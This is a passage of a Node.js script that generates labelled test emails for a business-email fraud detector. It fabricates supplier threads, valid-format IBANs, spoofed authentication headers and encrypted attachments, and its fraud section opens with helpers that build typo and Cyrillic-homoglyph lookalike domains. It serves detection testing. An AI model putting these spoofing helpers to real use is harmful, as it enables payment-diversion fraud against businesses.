#!/usr/bin/env node
// Generates the labelled fraud fixture set under server/tests/fixtures/fraud/:
//   history/  mail to import first (known customers and suppliers, their bank details, our replies)
//   eval/     mail to score: legitimate trade mail and fraud, in ten languages
//   labels.json  { mailbox, mails: [{ file, label: 'fraud'|'legit', scenario }] }
// Deterministic (seeded): re-running gives the same files. Run: node scripts/fraud-fixtures/generate.mjs
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import PDFDocument from 'pdfkit';
import yazl from 'yazl';
import { BANK_CHANGE, FOLLOW_UP, INQUIRY, INVOICE, PRODUCTS, pick, SECRET_TAIL, URGENT_TAIL } from './texts.mjs';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const outDir = path.join(root, 'server', 'tests', 'fixtures', 'fraud');

// ------------------------------------------------------------------------------------------
// Deterministic randomness

let seed = 20261127;
function rnd() {
  seed = (seed * 1664525 + 1013904223) >>> 0;
  return seed / 2 ** 32;
}
const choose = (list) => pick(rnd, list);
/** Runs `fn` on its own seeded sequence, so mail added later does not change the mail generated after it. */
function withSeed(own, fn) {
  const saved = seed;
  seed = own;
  try {
    return fn();
  } finally {
    seed = saved;
  }
}

// ------------------------------------------------------------------------------------------
// Bank identifiers (valid check digits, so the extractor accepts them)

function iban(country, bban) {
  const rearranged = `${bban}${country}00`
    .toUpperCase()
    .split('')
    .map((ch) => (/[A-Z]/.test(ch) ? String(ch.charCodeAt(0) - 55) : ch))
    .join('');
  let rest = 0;
  for (const digit of rearranged) rest = (rest * 10 + Number(digit)) % 97;
  const check = String(98 - rest).padStart(2, '0');
  return `${country}${check}${bban}`.replace(/(.{4})/g, '$1 ').trim();
}
const digits = (n) => Array.from({ length: n }, () => Math.floor(rnd() * 10)).join('');
const letters = (n) => Array.from({ length: n }, () => String.fromCharCode(65 + Math.floor(rnd() * 26))).join('');

// BBAN shapes per country (length and letter positions as the IBAN registry defines them).
const BBAN = {
  DE: () => digits(18),
  ES: () => digits(20),
  FR: () => `${digits(10)}${letters(1)}${digits(10)}${digits(2)}`,
  IT: () => `${letters(1)}${digits(10)}${digits(12)}`,
  GB: () => `${letters(4)}${digits(14)}`,
  TR: () => `${digits(5)}0${digits(16)}`,
  AE: () => digits(19),
  PL: () => digits(24),
  BR: () => `${digits(8)}${digits(5)}${digits(10)}${letters(1)}${digits(1)}`,
  NL: () => `${letters(4)}${digits(10)}`,
  HK: null,
};
const newIban = (country) => iban(country, BBAN[country]());

// ------------------------------------------------------------------------------------------
// The company and its counterparties

const MAILBOX = 'sales@hengda-lighting.com';
const ME = 'Lily Zhang';

const COUNTERPARTIES = [
  {
    key: 'acme',
    domain: 'acme-trading.de',
    user: 'anna.schmidt',
    name: 'Anna Schmidt',
    lang: 'de',
    country: 'Germany',
    port: 'Hamburg',
    bank: { iban: 'DE', bic: 'COBADEFFXXX' },
  },
  {
    key: 'globex',
    domain: 'globex.com.br',
    user: 'carlos',
    name: 'Carlos Souza',
    lang: 'pt',
    country: 'Brasil',
    port: 'Santos',
    bank: { iban: 'BR', bic: 'BRASBRRJXXX' },
  },
  {
    key: 'sinotrade',
    domain: 'sinotrade.cn',
    user: 'wanglei',
    name: '王磊',
    lang: 'zh',
    country: '中国',
    port: '上海',
    bank: { account: '6222 0212 0045 6789 123', bic: 'BKCHCNBJ300' },
  },
  {
    key: 'novaluz',
    domain: 'novaluz.es',
    user: 'maria.garcia',
    name: 'María García',
    lang: 'es',
    country: 'España',
    port: 'Valencia',
    bank: { iban: 'ES', bic: 'CAIXESBBXXX' },
  },
  {
    key: 'lumiere',
    domain: 'lumiere-deco.fr',
    user: 'p.dubois',
    name: 'Pierre Dubois',
    lang: 'fr',
    country: 'France',
    port: 'Le Havre',
    bank: { iban: 'FR', bic: 'BNPAFRPPXXX' },
  },
  {
    key: 'svet',
    domain: 'svetoptorg.ru',
    user: 'ivan.petrov',
    name: 'Иван Петров',
    lang: 'ru',
    country: 'Россия',
    port: 'Санкт-Петербург',
    bank: { account: '4070 2810 9380 0001 2345', bic: 'SABRRUMMXXX' },
  },
  {
    key: 'nur',
    domain: 'nurlight.ae',
    user: 'ahmed',
    name: 'أحمد المنصوري',
    lang: 'ar',
    country: 'الإمارات',
    port: 'جبل علي',
    bank: { iban: 'AE', bic: 'EBILAEADXXX' },
  },
  {
    key: 'istanbul',
    domain: 'istanbul-aydinlatma.com.tr',
    user: 'mehmet',
    name: 'Mehmet Yılmaz',
    lang: 'tr',
    country: 'Türkiye',
    port: 'Mersin',
    bank: { iban: 'TR', bic: 'TCZBTR2AXXX' },
  },
  {
    key: 'lucebella',
    domain: 'lucebella.it',
    user: 'giulia.rossi',
    name: 'Giulia Rossi',
    lang: 'it',
    country: 'Italia',
    port: 'Genova',
    bank: { iban: 'IT', bic: 'BCITITMMXXX' },
  },
  {
    key: 'brightway',
    domain: 'brightway.co.uk',
    user: 'james.wilson',
    name: 'James Wilson',
    lang: 'en',
    country: 'the UK',
    port: 'Felixstowe',
    bank: { iban: 'GB', bic: 'NWBKGB2LXXX' },
  },
  {
    key: 'pacific',
    domain: 'pacificlamps.com',
    user: 'sarah.chen',
    name: 'Sarah Chen',
    lang: 'en',
    country: 'the USA',
    port: 'Los Angeles',
    bank: { account: '3300 1234 5678', bic: 'BOFAUS3NXXX' },
  },
  {
    key: 'szoptics',
    domain: 'shenzhen-optics.com',
    user: 'chenjing',
    name: '陈静',
    lang: 'zh',
    country: '中国',
    port: '深圳',
    bank: { account: '4000 0231 0900 1234 567', bic: 'ICBKCNBJSZN' },
  },
  {
    key: 'polar',
    domain: 'polarlight.pl',
    user: 'piotr.nowak',
    name: 'Piotr Nowak',
    lang: 'en',
    country: 'Poland',
    port: 'Gdansk',
    bank: { iban: 'PL', bic: 'BPKOPLPWXXX' },
  },
  {
    key: 'kalinda',
    domain: 'kalinda-import.com.au',
    user: 'mark',
    name: 'Mark Taylor',
    lang: 'en',
    country: 'Australia',
    port: 'Sydney',
    bank: null,
  },
  {
    key: 'andes',
    domain: 'andes-iluminacion.cl',
    user: 'javier.rojas',
    name: 'Javier Rojas',
    lang: 'es',
    country: 'Chile',
    port: 'San Antonio',
    bank: null,
  },
  {
    key: 'mumbai',
    domain: 'mumbai-electricals.in',
    user: 'rahul',
    name: 'Rahul Sharma',
    lang: 'en',
    country: 'India',
    port: 'Nhava Sheva',
    bank: null,
  },
  {
    key: 'holland',
    domain: 'hollandlicht.nl',
    user: 'jan.devries',
    name: 'Jan de Vries',
    lang: 'en',
    country: 'the Netherlands',
    port: 'Rotterdam',
    bank: { iban: 'NL', bic: 'INGBNL2AXXX' },
  },
];
for (const c of COUNTERPARTIES) {
  c.address = `${c.user}@${c.domain}`;
  if (c.bank?.iban) c.bank.iban = newIban(c.bank.iban);
}

function bankBlock(bank, lang, beneficiary) {
  const label = {
    en: ['Beneficiary', 'Bank', 'Account No', 'SWIFT'],
    zh: ['收款人', '开户行', '账号', 'SWIFT代码'],
    es: ['Beneficiario', 'Banco', 'Número de cuenta', 'SWIFT'],
    pt: ['Beneficiário', 'Banco', 'Número da conta', 'SWIFT'],
    fr: ['Bénéficiaire', 'Banque', 'Numéro de compte', 'BIC'],
    de: ['Empfänger', 'Bank', 'Kontonummer', 'BIC'],
    ru: ['Получатель', 'Банк', 'Номер счёта', 'SWIFT'],
    ar: ['المستفيد', 'البنك', 'رقم الحساب', 'SWIFT'],
    tr: ['Alıcı', 'Banka', 'Hesap no', 'SWIFT'],
    it: ['Beneficiario', 'Banca', 'Numero di conto', 'BIC'],
  }[lang];
  const lines = [`${label[0]}: ${beneficiary}`];
  if (bank.bankName) lines.push(`${label[1]}: ${bank.bankName}`);
  if (bank.iban) lines.push(`IBAN: ${bank.iban}`);
  if (bank.account) lines.push(`${label[2]}: ${bank.account}`);
  if (bank.bic) lines.push(`${label[3]}: ${bank.bic}`);
  return lines.join('\n');
}

// ------------------------------------------------------------------------------------------
// RFC 5322 writer

let clock = Date.UTC(2026, 2, 2, 1, 0, 0);
const nextDate = () => {
  clock += Math.floor(3 + rnd() * 40) * 3600_000;
  return new Date(clock).toUTCString().replace('GMT', '+0000');
};
let counter = 0;
const newMessageId = (domain) => `<${(++counter).toString(36)}.${digits(8)}@${domain.replace(/^xn--/, 'mx.xn--')}>`;

const encodeWord = (text) => (/^[\x20-\x7e]*$/.test(text) ? text : `=?UTF-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`);
const addressHeader = (name, address) =>
  name ? `${/^[\x20-\x7e]*$/.test(name) ? `"${name.replace(/"/g, '')}"` : encodeWord(name)} <${address}>` : address;
const b64 = (buf) => buf.toString('base64').replace(/.{76}/g, '$&\r\n');

function eml(m) {
  const headers = [];
  if (m.auth) headers.push(`Authentication-Results: mx.hengda-lighting.com; ${m.auth}`);
  headers.push(`Received: from mail.${m.fromAddress.split('@')[1]} by mx.hengda-lighting.com; ${m.date}`);
  headers.push(`From: ${addressHeader(m.fromName, m.fromAddress)}`);
  headers.push(`To: ${m.to.map((t) => addressHeader(t.name, t.address)).join(', ')}`);
  if (m.replyTo) headers.push(`Reply-To: ${m.replyTo}`);
  headers.push(`Subject: ${encodeWord(m.subject)}`);
  headers.push(`Date: ${m.date}`);
  headers.push(`Message-ID: ${m.messageId}`);
  if (m.inReplyTo) headers.push(`In-Reply-To: ${m.inReplyTo}`);
  if (m.references?.length) headers.push(`References: ${m.references.join(' ')}`);
  if (m.listId) headers.push(`List-Id: ${m.listId}`, 'Precedence: bulk');
  headers.push('MIME-Version: 1.0');
  const textPart = [
    'Content-Type: text/plain; charset=UTF-8',
    'Content-Transfer-Encoding: base64',
    '',
    b64(Buffer.from(m.text, 'utf8')),
  ].join('\r\n');
  if (!m.attachments?.length) return `${headers.join('\r\n')}\r\n${textPart}\r\n`;
  const boundary = `=_pier_${digits(12)}`;
  const parts = [textPart];
  for (const a of m.attachments) {
    parts.push(
      [
        `Content-Type: ${a.mime}; name="${a.filename}"`,
        `Content-Disposition: attachment; filename="${a.filename}"`,
        'Content-Transfer-Encoding: base64',
        '',
        a.content instanceof Promise ? placeholder(a.content) : b64(a.content),
      ].join('\r\n'),
    );
  }
  return `${headers.join('\r\n')}\r\nContent-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n${parts.map((p) => `--${boundary}\r\n${p}\r\n`).join('')}--${boundary}--\r\n`;
}

const AUTH_PASS = (domain) => `spf=pass smtp.mailfrom=${domain}; dkim=pass header.d=${domain}; dmarc=pass header.from=${domain}`;
const AUTH_NONE = (domain) => `spf=none smtp.mailfrom=${domain}; dkim=none; dmarc=none header.from=${domain}`;
const AUTH_FAIL = (domain) => `spf=fail smtp.mailfrom=${domain}; dkim=none; dmarc=fail header.from=${domain}`;

// ------------------------------------------------------------------------------------------
// ZIP archives (yazl; fixed timestamps so the set regenerates byte for byte)

const ZIP_TIME = new Date(Date.UTC(2026, 0, 5, 9, 30, 0));
/**
 * A ZIP as a promise (yazl streams); eml() leaves a placeholder that flush() fills in, so the
 * seeded random sequence is consumed in the same order as before. An `encrypted` entry is stored
 * behind a 12-byte header with general-purpose bit 0 set: what an archive reader sees of a
 * password-protected entry (yazl itself cannot encrypt).
 */
function zip(files) {
  const archive = new yazl.ZipFile();
  for (const f of files) {
    const raw = Buffer.from(f.content);
    const data = f.encrypted ? Buffer.concat([Buffer.alloc(12, 7), raw]) : raw;
    archive.addBuffer(data, f.name, { mtime: ZIP_TIME, mode: 0o100644, compress: !f.encrypted });
  }
  archive.end();
  const encrypted = files.map((f) => Boolean(f.encrypted));
  return new Promise((resolve, reject) => {
    const chunks = [];
    archive.outputStream.on('data', (c) => chunks.push(c));
    archive.outputStream.on('error', reject);
    archive.outputStream.on('end', () => resolve(markEncrypted(Buffer.concat(chunks), encrypted)));
  });
}
/** Sets the "encrypted" flag of the chosen entries in their central and local headers. */
function markEncrypted(buffer, which) {
  const eocd = buffer.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let at = buffer.readUInt32LE(eocd + 16);
  for (const encrypted of which) {
    if (encrypted) {
      buffer.writeUInt16LE(buffer.readUInt16LE(at + 8) | 1, at + 8);
      const local = buffer.readUInt32LE(at + 42);
      buffer.writeUInt16LE(buffer.readUInt16LE(local + 6) | 1, local + 6);
    }
    at += 46 + buffer.readUInt16LE(at + 28) + buffer.readUInt16LE(at + 30) + buffer.readUInt16LE(at + 32);
  }
  return buffer;
}
const pdf = (title) => Buffer.from(`%PDF-1.4\n% ${title}\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
/**
 * A real PDF with text (pdfkit, standard Helvetica: Latin-1 languages only), as a promise like
 * zip(). Fixed dates: the set regenerates byte for byte. `userPassword` encrypts it.
 */
function textPdf(text, { userPassword } = {}) {
  const doc = new PDFDocument({
    info: { Title: 'Invoice', CreationDate: ZIP_TIME },
    ...(userPassword ? { userPassword, ownerPassword: 'owner', pdfVersion: '1.7' } : {}),
  });
  const chunks = [];
  doc.on('data', (c) => chunks.push(c));
  const done = new Promise((resolve, reject) => {
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.on('error', reject);
  });
  doc.fontSize(11).text(text);
  doc.end();
  return done;
}
const TEXT_PDF = (filename, text, options) => ({ filename, mime: 'application/pdf', content: textPdf(text, options) });
const xmlEscape = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
/** A minimal complete DOCX (WordprocessingML), one paragraph per line of `text`. */
const TEXT_DOCX = (filename, text) => ({
  filename,
  mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  content: zip([
    {
      name: '[Content_Types].xml',
      content:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    },
    {
      name: '_rels/.rels',
      content:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    },
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${text
        .split('\n')
        .map((p) => `<w:p><w:r><w:t xml:space="preserve">${xmlEscape(p)}</w:t></w:r></w:p>`)
        .join('')}</w:body></w:document>`,
    },
  ]),
});
/** Languages Helvetica (WinAnsi) can write; documents for the others are in English. */
const LATIN = new Set(['en', 'de', 'es', 'fr', 'it', 'pt']);
const PDF = (filename) => ({ filename, mime: 'application/pdf', content: pdf(filename) });
const XLSX = (filename) => ({
  filename,
  mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  content: zip([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'xl/workbook.xml', content: '<workbook/>' },
  ]),
});
const JPG = (filename) => ({
  filename,
  mime: 'image/jpeg',
  content: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 0xff, 0xd9]),
});

// ------------------------------------------------------------------------------------------
// Output

// Files are written at the end, once every ZIP is built (see zip()).
const pendingFiles = [];
const pendingZips = [];
function placeholder(promise) {
  pendingZips.push(promise);
  return `@@ZIP${pendingZips.length - 1}@@`;
}
function output(file, text) {
  pendingFiles.push([file, text]);
}
async function flush() {
  const zips = (await Promise.all(pendingZips)).map(b64);
  for (const [file, text] of pendingFiles) {
    writeFileSync(
      path.join(outDir, file),
      text.replace(/@@ZIP(\d+)@@/g, (_, i) => zips[Number(i)]),
    );
  }
}

rmSync(outDir, { recursive: true, force: true });
mkdirSync(path.join(outDir, 'history'), { recursive: true });
mkdirSync(path.join(outDir, 'eval'), { recursive: true });
const labels = [];
let historyCount = 0;

function writeHistory(m) {
  const file = `history/${String(++historyCount).padStart(3, '0')}-${m.slug}.eml`;
  output(file, eml(m));
  return m;
}
function writeEval(label, scenario, m) {
  const file = `eval/${label}-${String(labels.length + 1).padStart(3, '0')}-${scenario}.eml`;
  output(file, eml(m));
  labels.push({ file, label, scenario });
}

const us = { name: `${ME} (Hengda Lighting)`, address: MAILBOX };
const ctxFor = (c, lang = c.lang) => ({
  name: c.name,
  me: ME,
  product: choose(PRODUCTS[lang]),
  qty: choose([200, 500, 1000, 1200, 2000, 3000, 5000]),
  po: `${choose(['PO', 'PI', 'HD', 'INV'])}-2026-${digits(4)}`,
  port: c.port,
  country: c.country,
});

// ------------------------------------------------------------------------------------------
// History: every counterparty wrote, we answered, and those with a bank sent an invoice with it.

const threads = new Map();
for (const c of COUNTERPARTIES) {
  const ctx = ctxFor(c);
  const inquiry = choose(INQUIRY[c.lang])(ctx);
  const first = writeHistory({
    slug: `${c.key}-inquiry`,
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: inquiry.subject,
    text: inquiry.text,
    date: nextDate(),
    messageId: newMessageId(c.domain),
    auth: AUTH_PASS(c.domain),
  });
  const reply = writeHistory({
    slug: `${c.key}-our-quote`,
    fromName: us.name,
    fromAddress: MAILBOX,
    to: [{ name: c.name, address: c.address }],
    subject: `Re: ${inquiry.subject}`,
    text: `Dear ${c.name},\n\nThank you for your inquiry. Please find our quotation attached, valid for 30 days. Payment: 30% T/T deposit, balance against B/L copy, or L/C at sight.\n\nBest regards,\n${ME}\nHengda Lighting Co., Ltd.`,
    date: nextDate(),
    messageId: newMessageId('hengda-lighting.com'),
    inReplyTo: first.messageId,
    references: [first.messageId],
    attachments: [PDF(`Quotation-${ctx.po}.pdf`)],
  });
  const follow = choose(FOLLOW_UP[c.lang])(ctx);
  const third = writeHistory({
    slug: `${c.key}-follow-up`,
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: `Re: ${inquiry.subject}`,
    text: follow.text,
    date: nextDate(),
    messageId: newMessageId(c.domain),
    inReplyTo: reply.messageId,
    references: [first.messageId, reply.messageId],
    auth: AUTH_PASS(c.domain),
  });
  threads.set(c.key, { subject: inquiry.subject, ids: [first.messageId, reply.messageId, third.messageId] });
  if (c.bank) {
    const invoice = INVOICE[c.lang]({ ...ctx, bank: bankBlock(c.bank, c.lang, c.name) });
    writeHistory({
      slug: `${c.key}-invoice`,
      fromName: c.name,
      fromAddress: c.address,
      to: [us],
      subject: invoice.subject,
      text: invoice.text,
      date: nextDate(),
      messageId: newMessageId(c.domain),
      auth: AUTH_PASS(c.domain),
      attachments: [PDF(`${ctx.po}.pdf`)],
    });
  }
}
// A colleague at acme who also writes (so a second known name exists there).
writeHistory({
  slug: 'acme-colleague',
  fromName: 'Thomas Becker',
  fromAddress: 'thomas.becker@acme-trading.de',
  to: [us],
  subject: 'Lieferung PO-2026-0815',
  text: 'Hallo Lily,\n\nbitte senden Sie die Sendungsverfolgung für die letzte Lieferung.\n\nGrüße\nThomas Becker',
  date: nextDate(),
  messageId: newMessageId('acme-trading.de'),
  auth: AUTH_PASS('acme-trading.de'),
});

// ------------------------------------------------------------------------------------------
// Legitimate mail

const withBank = COUNTERPARTIES.filter((c) => c.bank);

// (a) replies in the known threads: quotes, PI, L/C, shipping, samples, complaints.
for (let i = 0; i < 75; i++) {
  const c = COUNTERPARTIES[i % COUNTERPARTIES.length];
  const thread = threads.get(c.key);
  const ctx = ctxFor(c);
  const body = choose(FOLLOW_UP[c.lang])(ctx);
  const tail = rnd() < 0.25 ? choose(URGENT_TAIL[c.lang]) : '';
  writeEval('legit', 'thread-reply', {
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: `${choose(['Re: ', 'RE: ', 'AW: ', '回复: ', 'R: ', 'Ynt: '])}${thread.subject}`,
    text:
      body.text +
      tail +
      (rnd() < 0.4 ? `\n\n-----Original Message-----\nFrom: ${MAILBOX}\nPayment: 30% T/T deposit, our bank details are on the PI.` : ''),
    date: nextDate(),
    messageId: newMessageId(c.domain),
    inReplyTo: thread.ids[thread.ids.length - 1],
    references: thread.ids,
    auth: rnd() < 0.9 ? AUTH_PASS(c.domain) : undefined,
    attachments:
      rnd() < 0.3 ? [choose([PDF(`PI-${ctx.po}.pdf`), XLSX('packing list.xlsx'), JPG('damaged-carton.jpg'), PDF('BL-copy.pdf')])] : [],
  });
}

// (b) invoices with the bank details we already know (the ledger should reassure).
for (let i = 0; i < 30; i++) {
  const c = withBank[i % withBank.length];
  const ctx = ctxFor(c);
  const invoice = INVOICE[c.lang]({ ...ctx, bank: bankBlock(c.bank, c.lang, c.name) });
  writeEval('legit', 'same-bank-details', {
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: invoice.subject,
    text: invoice.text + (rnd() < 0.3 ? choose(URGENT_TAIL[c.lang]) : ''),
    date: nextDate(),
    messageId: newMessageId(c.domain),
    auth: AUTH_PASS(c.domain),
    attachments: [PDF(`${ctx.po}.pdf`)],
  });
}

// (c) new inquiries from buyers we never met, corporate and free-mail, in every language.
const NEW_BUYERS = [
  ['en', 'Olivia Brown', 'olivia@sunrise-retail.com', 'the USA', 'New York'],
  ['en', 'Kwame Mensah', 'kwame.mensah@gmail.com', 'Ghana', 'Tema'],
  ['en', 'Aisha Bello', 'procurement@lagos-builders.ng', 'Nigeria', 'Lagos'],
  ['en', 'Nguyen Van An', 'an.nguyen@vietlight.vn', 'Vietnam', 'Ho Chi Minh'],
  ['zh', '刘洋', 'liuyang@163.com', '马来西亚', '巴生港'],
  ['zh', '黄志强', 'huang@hk-lighting.com.hk', '香港', '香港'],
  ['es', 'Lucía Fernández', 'lucia@iluminacionmx.com.mx', 'México', 'Manzanillo'],
  ['es', 'Diego Torres', 'diego.torres@hotmail.com', 'Perú', 'Callao'],
  ['pt', 'Ana Costa', 'ana.costa@luzportugal.pt', 'Portugal', 'Lisboa'],
  ['pt', 'João Pereira', 'joao.pereira@yahoo.com.br', 'Brasil', 'Itajaí'],
  ['fr', 'Amadou Diallo', 'a.diallo@senelec-distribution.sn', 'Sénégal', 'Dakar'],
  ['fr', 'Claire Martin', 'claire.martin@orange.fr', 'France', 'Marseille'],
  ['de', 'Lukas Müller', 'lukas@lichtwerk-gmbh.de', 'Deutschland', 'Bremerhaven'],
  ['de', 'Sabine Wagner', 'sabine.wagner@gmx.de', 'Österreich', 'Koper'],
  ['ru', 'Ольга Смирнова', 'olga@svetlana-trade.kz', 'Казахстан', 'Алматы'],
  ['ru', 'Дмитрий Козлов', 'd.kozlov@mail.ru', 'Россия', 'Владивосток'],
  ['ar', 'خالد العتيبي', 'khalid@riyadh-electric.sa', 'السعودية', 'الدمام'],
  ['ar', 'يوسف حداد', 'youssef.haddad@outlook.com', 'الأردن', 'العقبة'],
  ['tr', 'Ayşe Demir', 'ayse@ankara-led.com.tr', 'Türkiye', 'İzmir'],
  ['it', 'Marco Bianchi', 'marco.bianchi@illuminazione-nord.it', 'Italia', 'La Spezia'],
];
for (let i = 0; i < 50; i++) {
  const [lang, name, address, country, port] = NEW_BUYERS[i % NEW_BUYERS.length];
  const domain = address.split('@')[1];
  const ctx = { ...ctxFor({ name, port, country, lang }, lang), name, country, port };
  const inquiry = choose(INQUIRY[lang])(ctx);
  writeEval('legit', 'new-inquiry', {
    fromName: name,
    fromAddress: address,
    to: [us],
    subject: inquiry.subject,
    text: inquiry.text + (rnd() < 0.3 ? choose(URGENT_TAIL[lang]) : ''),
    date: nextDate(),
    messageId: newMessageId(domain),
    auth: choose([AUTH_PASS(domain), AUTH_PASS(domain), AUTH_NONE(domain), undefined]),
    attachments: rnd() < 0.2 ? [JPG('product-photo.jpg')] : [],
  });
}

// (d) newsletters and platform notices: Reply-To elsewhere is normal for mailing services.
const NEWSLETTERS = [
  [
    'Alibaba.com',
    'notice@service.alibaba.com',
    'noreply@alibaba-inc.com',
    'You have 3 new buyer inquiries',
    'Log in to your account to reply to new inquiries for LED panel lights.',
  ],
  [
    'Made-in-China.com',
    'newsletter@made-in-china.com',
    'support@focuschina.com',
    'Sourcing trends this week',
    'Top searched products this week: solar street lights, LED strips. Create a new account for your sales team in the member center.',
  ],
  [
    'Canton Fair',
    'info@cantonfair.org.cn',
    'service@cantonfair-visitors.com',
    '第139届广交会参展通知',
    '尊敬的参展商:第139届广交会将于4月15日开幕,请尽快完成展位确认。',
  ],
  [
    'Lightfair',
    'news@lightfair.com',
    'lightfair@informa-events.com',
    'Exhibitor registration closes today',
    'Register today to secure your booth. This message is confidential and intended for the addressee only.',
  ],
  [
    'DHL Express',
    'noreply@dhl.com',
    'customer.service@dhl.de',
    'Shipment 1234567890 delivered',
    'Your shipment has been delivered. Track your parcel online.',
  ],
  [
    '中国银行',
    'notice@bankofchina.com',
    'service@boc.cn',
    '国际结算业务通知',
    '尊敬的客户:您有一笔信用证通知,请登录企业网银查看。本邮件不要求您提供账户密码。',
  ],
];
for (let i = 0; i < 24; i++) {
  const [name, address, replyTo, subject, text] = NEWSLETTERS[i % NEWSLETTERS.length];
  const domain = address.split('@')[1];
  writeEval('legit', 'newsletter', {
    fromName: name,
    fromAddress: address,
    to: [us],
    replyTo,
    subject,
    text: `${text}\n\nUnsubscribe: reply STOP.`,
    date: nextDate(),
    messageId: newMessageId(domain),
    listId: `<news.${domain}>`,
    auth: AUTH_PASS(domain),
  });
}

// (e) forwarders and shipping lines with documents (PDFs, zip of PDFs and photos).
const FORWARDERS = [
  [
    'Maersk Booking',
    'booking@maersk.com',
    'Booking confirmation',
    'Please find the booking confirmation for 1x40HQ Shanghai - Hamburg, ETD next Friday.',
  ],
  ['COSCO Shipping', 'docs@coscoshipping.com', 'Draft B/L for confirmation', '请核对提单草稿,如无问题请于今天回复确认。'],
  [
    'Kuehne+Nagel',
    'seafreight.sha@kuehne-nagel.com',
    'Arrival notice',
    'The vessel has arrived at destination port. Please arrange customs clearance.',
  ],
  [
    'SGS Inspection',
    'inspection@sgs.com',
    'Inspection report PO-2026-3311',
    'The pre-shipment inspection passed. Report and photos attached.',
  ],
];
for (let i = 0; i < 24; i++) {
  const [name, address, subject, text] = FORWARDERS[i % FORWARDERS.length];
  const domain = address.split('@')[1];
  const attachment = choose([
    PDF('booking.pdf'),
    PDF('draft-BL.pdf'),
    {
      filename: 'inspection-photos.zip',
      mime: 'application/zip',
      content: zip([
        { name: 'photo1.jpg', content: 'jpg' },
        { name: 'photo2.jpg', content: 'jpg' },
        { name: 'report.pdf', content: '%PDF' },
      ]),
    },
    {
      filename: 'documents.zip',
      mime: 'application/zip',
      content: zip([
        { name: 'CI.pdf', content: '%PDF' },
        { name: 'PL.xlsx', content: 'xlsx' },
      ]),
    },
  ]);
  writeEval('legit', 'forwarder', {
    fromName: name,
    fromAddress: address,
    to: [us],
    subject,
    text,
    date: nextDate(),
    messageId: newMessageId(domain),
    auth: rnd() < 0.85 ? AUTH_PASS(domain) : `spf=softfail smtp.mailfrom=${domain}; dkim=none; dmarc=none header.from=${domain}`,
    attachments: [attachment],
  });
}

// (f) a colleague of a known company writing from a new address at the same domain.
for (let i = 0; i < 6; i++) {
  const c = COUNTERPARTIES[(i * 3) % COUNTERPARTIES.length];
  const ctx = ctxFor(c);
  writeEval('legit', 'new-colleague', {
    fromName: choose(['Laura Klein', 'Tom Lee', 'Sofia Ricci', 'Chen Hao']),
    fromAddress: `${choose(['laura', 'tom', 'sofia', 'chenhao'])}@${c.domain}`,
    to: [us],
    subject: `Order ${ctx.po}`,
    text: choose(FOLLOW_UP[c.lang])(ctx).text,
    date: nextDate(),
    messageId: newMessageId(c.domain),
    auth: AUTH_PASS(c.domain),
  });
}

// (g) a known partner genuinely changes its bank (real domain, authenticated, in its thread).
//     Labelled legitimate; Pier is right to flag it for a phone call (see the report).
for (let i = 0; i < 3; i++) {
  const c = withBank[(i * 5) % withBank.length];
  const thread = threads.get(c.key);
  const ctx = ctxFor(c);
  const bank = c.bank.iban ? { iban: newIban(c.bank.iban.slice(0, 2)), bic: c.bank.bic } : { account: digits(16), bic: c.bank.bic };
  const change = choose(BANK_CHANGE[c.lang])({ ...ctx, bank: bankBlock(bank, c.lang, c.name) });
  writeEval('legit', 'genuine-bank-change', {
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: `Re: ${thread.subject}`,
    text: `${change.text}\n\nYou are welcome to call me on my usual number to confirm.`,
    date: nextDate(),
    messageId: newMessageId(c.domain),
    inReplyTo: thread.ids[thread.ids.length - 1],
    references: thread.ids,
    auth: AUTH_PASS(c.domain),
  });
}

// ------------------------------------------------------------------------------------------
// Fraud

function typo(domain) {
  const [label, ...rest] = domain.split('.');
  const ops = [
    () => label.replace(/i/, 'l'),
    () => label.replace(/o/, '0'),
    () => label.replace(/m/, 'rn'),
    () => `${label.slice(0, 2)}${label[3]}${label[2]}${label.slice(4)}`,
    () => label.replace(/-/, ''),
    () => `${label}s`,
    () => label.replace(/(.)\1?$/, '$1$1'),
  ];
  for (let attempt = 0; attempt < 10; attempt++) {
    const candidate = choose(ops)();
    if (candidate !== label) return [candidate, ...rest].join('.');
  }
  return [`${label}x`, ...rest].join('.');
}
const CYRILLIC = { a: 'а', e: 'е', o: 'о', p: 'р', c: 'с', x: 'х', i: 'і' };
function homoglyph(domain) {
  const [label, ...rest] = domain.split('.');
  const at = [...label].findIndex((ch) => CYRILLIC[ch]);
  const unicode = `${label.slice(0, at)}${CYRILLIC[label[at]]}${label.slice(at + 1)}`;
  return new URL(`http://${[unicode, ...rest].join('.')}`).hostname;
}
function tldSwap(domain) {
